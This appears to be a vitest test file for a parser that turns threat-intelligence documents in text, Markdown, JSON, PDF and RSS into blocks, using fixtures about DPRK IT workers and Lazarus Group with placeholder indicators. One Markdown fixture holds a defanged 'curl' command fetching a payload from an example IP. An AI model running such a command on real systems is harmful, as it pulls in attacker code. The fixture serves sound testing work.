import { describe, expect, test } from 'vitest';
import { expectConsistent } from './fixtures/consistency.ts';
import { makePdf } from './fixtures/pdf.ts';
import { parseDocument } from './parse.ts';

const utf8 = (s: string) => Buffer.from(s);

describe('plain text', async () => {
  const text = [
    'FBI FLASH: DPRK IT WORKERS',
    '',
    'North Korean IT workers applied for remote jobs',
    'with stolen identities.',
    '',
    'Indicators observed:',
    'Type\tValue',
    'Email\tjiho.han@example.com',
    'Domain\tupdate-check.net',
    '',
    '- first item',
    '- second item',
    '',
    'SUMMARY',
  ].join('\r\n');
  const doc = await parseDocument(utf8(text), { contentType: 'text/plain', source: 'file:flash.txt' });
  const blocks = expectConsistent(doc);

  test('blocks by blank lines, wrapped lines joined, table rows kept together', () => {
    expect(doc.meta.title).toBe('FBI FLASH: DPRK IT WORKERS');
    expect(blocks).toEqual([
      'FBI FLASH: DPRK IT WORKERS',
      'North Korean IT workers applied for remote jobs with stolen identities.',
      'Indicators observed:',
      'Type\tValue\nEmail\tjiho.han@example.com\nDomain\tupdate-check.net',
      'first item',
      'second item',
      'SUMMARY',
    ]);
    expect(doc.blocks.map((b) => b.kind)).toEqual([
      'heading',
      'paragraph',
      'paragraph',
      'table',
      'list-item',
      'list-item',
      'heading',
    ]);
  });
});

describe("plain text keeps the author's lines", async () => {
  const text = [
    'Network indicators (the last line lists a legitimate service they abused):',
    'update-relay.net',
    'hxxps://cdn-sync[.]org/a.js',
    '45.61.12.7',
    'Legitimate service abused: dropbox.com',
    '',
    'The operators rented servers from a hosting company in Eastern Europe and then',
    'Moved the panel twice in one week.',
  ].join('\n');
  const doc = await parseDocument(utf8(text), { contentType: 'text/plain', source: 'file:lines.txt' });
  const blocks = expectConsistent(doc);

  test('a list of values stays one value a line; hard-wrapped prose is one line', () => {
    expect(blocks[0]?.split('\n')).toEqual([
      'Network indicators (the last line lists a legitimate service they abused):',
      'update-relay.net',
      'hxxps://cdn-sync[.]org/a.js',
      '45.61.12.7',
      'Legitimate service abused: dropbox.com',
    ]);
    expect(blocks[1]).toBe(
      'The operators rented servers from a hosting company in Eastern Europe and then Moved the panel twice in one week.',
    );
  });
});

describe('plain text copied from a Markdown page', async () => {
  const text = [
    '### Background',
    'The group returned in May.',
    '#### References',
    '- Earlier report, 2019',
    '#1 is not a heading',
  ].join('\n');
  const doc = await parseDocument(utf8(text), { contentType: 'text/plain', source: 'file:md.txt' });
  const blocks = expectConsistent(doc);

  test("'#'-marked lines are headings with their level, the rest stays as it was", () => {
    const headings = doc.blocks.filter((b) => b.kind === 'heading');
    expect(headings.map((b) => [doc.text.slice(b.start, b.end), b.level])).toEqual([
      ['Background', 3],
      ['References', 4],
    ]);
    expect(blocks).toContain('The group returned in May.');
    expect(blocks.join('\n')).toContain('#1 is not a heading');
  });
});

describe('markdown', async () => {
  const md = [
    '# Lazarus Group targets *crypto* exchanges',
    '',
    'The group used [a fake job site](https://jobs.example.net/apply) and **TraderTraitor** lures,',
    'reported by [Reuters](https://www.reuters.com/x) and [our team][blog].',
    '',
    '```bash',
    'curl hxxp://203.0.113.7/payload',
    '```',
    '',
    '| Type | Value |',
    '|------|-------|',
    '| IPv4 | 203.0.113.7 |',
    '| URL | [panel](https://panel.example.org/) |',
    '',
    '- item one with `code`',
    '- item two',
    '',
    '> quoted line',
    '',
    '![diagram](https://cdn.example.com/d.png)',
    '',
    '## References',
    '',
    '1. [A paper](https://papers.example.edu/p.pdf)',
    '',
    '[blog]: https://research.example-security.com/posts/1',
  ].join('\n');
  const doc = await parseDocument(utf8(md), {
    contentType: 'text/markdown',
    source: 'https://research.example-security.com/posts/2.md',
    finalUrl: 'https://research.example-security.com/posts/2.md',
  });
  const blocks = expectConsistent(doc);

  test('headings, paragraphs, fenced code, tables, lists, quotes', () => {
    expect(doc.meta.title).toBe('Lazarus Group targets crypto exchanges');
    expect(doc.blocks.map((b) => b.kind)).toEqual([
      'heading',
      'paragraph',
      'code',
      'table',
      'list-item',
      'list-item',
      'quote',
      'heading',
      'list-item',
    ]);
    expect(blocks[1]).toBe('The group used a fake job site and TraderTraitor lures, reported by Reuters and our team.');
    expect(blocks[2]).toBe('curl hxxp://203.0.113.7/payload');
    expect(blocks[3]).toBe('Type | Value\nIPv4 | 203.0.113.7\nURL | panel');
    expect(blocks[4]).toBe('item one with code');
    expect(doc.text).not.toContain('diagram');
  });

  test('links keep their text in the body and get roles', () => {
    const roles = Object.fromEntries(doc.links.map((l) => [l.href, l.role]));
    expect(roles).toEqual({
      'https://jobs.example.net/apply': 'in-body',
      'https://www.reuters.com/x': 'reference',
      'https://research.example-security.com/posts/1': 'publisher',
      'https://panel.example.org/': 'in-body',
      'https://papers.example.edu/p.pdf': 'reference',
    });
    expect(doc.links.every((l) => l.start !== undefined)).toBe(true);
  });
});

describe('JSON', async () => {
  const json = {
    title: 'Advisory AA25-001',
    published: '2025-01-15T00:00:00Z',
    indicators: [
      { type: 'ipv4', value: '203.0.113.9' },
      { type: 'email', value: 'haoran.xu@example.org' },
    ],
    'weird key': { nested: true },
  };
  const doc = await parseDocument(utf8(JSON.stringify(json)), { contentType: 'application/json', source: 'stdin' });
  const blocks = expectConsistent(doc);

  test('flattens to path: value lines, one block per top-level entry', () => {
    expect(doc.meta.title).toBe('Advisory AA25-001');
    expect(doc.meta.published).toBe('2025-01-15T00:00:00.000Z');
    expect(blocks).toEqual([
      'title: Advisory AA25-001',
      'published: 2025-01-15T00:00:00Z',
      'indicators[0].type: ipv4\nindicators[0].value: 203.0.113.9\nindicators[1].type: email\nindicators[1].value: haoran.xu@example.org',
      '["weird key"].nested: true',
    ]);
  });

  test('broken JSON is parse_failed', async () => {
    await expect(
      parseDocument(utf8('{"a":'), { contentType: 'application/json', source: 'stdin' }),
    ).rejects.toMatchObject({
      code: 'parse_failed',
    });
  });
});

describe('PDF', async () => {
  const pdf = makePdf(
    [
      [
        { text: 'UNITED STATES DISTRICT COURT', y: 740, size: 14 },
        { text: 'The defendants used the persona Jiho Han and the', y: 700 },
        { text: 'email jiho.han@example.com to apply for jobs.', y: 686 },
        { text: 'A second paragraph names TXjkVbnAtzU5vcDQnS1VYcWwf2u3jvJK2Q (Tron).', y: 650 },
      ],
      [{ text: 'Page two: Lazarus Group, also known as APT38.', y: 700 }],
    ],
    { title: 'Indictment', created: "D:20250724143000-04'00'" },
  );
  const doc = await parseDocument(pdf, { contentType: 'application/pdf', source: 'file:indictment.pdf' });
  const blocks = expectConsistent(doc);

  test('a fixture PDF is a few hundred bytes', () => {
    expect(pdf.length).toBeLessThan(2000);
  });

  test('one block per paragraph, with its page', () => {
    expect(blocks).toEqual([
      'UNITED STATES DISTRICT COURT',
      'The defendants used the persona Jiho Han and the email jiho.han@example.com to apply for jobs.',
      'A second paragraph names TXjkVbnAtzU5vcDQnS1VYcWwf2u3jvJK2Q (Tron).',
      'Page two: Lazarus Group, also known as APT38.',
    ]);
    expect(doc.blocks.map((b) => b.page)).toEqual([1, 1, 1, 2]);
    expect(doc.meta.title).toBe('Indictment');
    expect(doc.meta.published).toBe('2025-07-24T18:30:00.000Z');
  });

  test('a PDF without a text layer is no_text', async () => {
    const error = await parseDocument(makePdf([[]]), { contentType: 'application/pdf', source: 'file:scan.pdf' }).catch(
      (e: unknown) => e,
    );
    expect(error).toMatchObject({ code: 'no_text', message: 'the PDF has no text layer (scanned?)' });
  });

  test('a broken PDF is parse_failed', async () => {
    const error = await parseDocument(utf8('%PDF-1.4\nnot really'), {
      contentType: 'application/pdf',
      source: 'stdin',
    }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'parse_failed' });
  });
});

describe('feeds and XML', () => {
  test('an RSS feed: entries as headings and text, links recorded', async () => {
    const rss = `<?xml version="1.0"?><rss version="2.0"><channel><title>Advisories</title>
      <item><title>DPRK IT workers</title><link>https://feeds.example.gov/a1</link>
      <description>&lt;p&gt;Workers used &lt;b&gt;laptop farms&lt;/b&gt;.&lt;/p&gt;</description></item></channel></rss>`;
    const doc = await parseDocument(utf8(rss), {
      contentType: 'application/rss+xml',
      source: 'https://feeds.example.gov/rss',
    });
    expect(expectConsistent(doc)).toEqual(['DPRK IT workers', 'Workers used laptop farms.']);
    expect(doc.meta.title).toBe('Advisories');
    expect(doc.links).toEqual([{ href: 'https://feeds.example.gov/a1', text: 'DPRK IT workers', role: 'publisher' }]);
  });

  test('other XML: leaf elements as path: value lines', async () => {
    const doc = await parseDocument(utf8('<report><actor>Lazarus Group</actor><ip>203.0.113.5</ip></report>'), {
      contentType: 'application/xml',
      source: 'stdin',
    });
    expect(expectConsistent(doc)).toEqual(['report.actor: Lazarus Group\nreport.ip: 203.0.113.5']);
  });
});

test('a type the parser does not read is unsupported_type', async () => {
  await expect(parseDocument(utf8('x'), { contentType: 'image/png', source: 'stdin' })).rejects.toMatchObject({
    code: 'unsupported_type',
  });
});

describe('code points no store takes', () => {
  test('NUL and lone surrogates become U+FFFD, one for one, so offsets hold', async () => {
    const json = JSON.stringify({ title: 'Lure\u0000 kit', body: 'C2 at evil\ud800.example and 45.137.21.77\u0000.' });
    const doc = await parseDocument(utf8(json), { contentType: 'application/json', source: 'file:lure.json' });
    expect(doc.text).not.toContain('\u0000');
    expect(doc.text.isWellFormed()).toBe(true);
    expect(doc.text).toContain('evil\uFFFD.example');
    expect(doc.text).toContain('45.137.21.77\uFFFD.');
    expectConsistent(doc);
    const plain = await parseDocument(utf8('A\u0000B\n\nC'), { contentType: 'text/plain', source: 'file:nul.txt' });
    expect(plain.text).toContain('A\uFFFDB');
  });
});
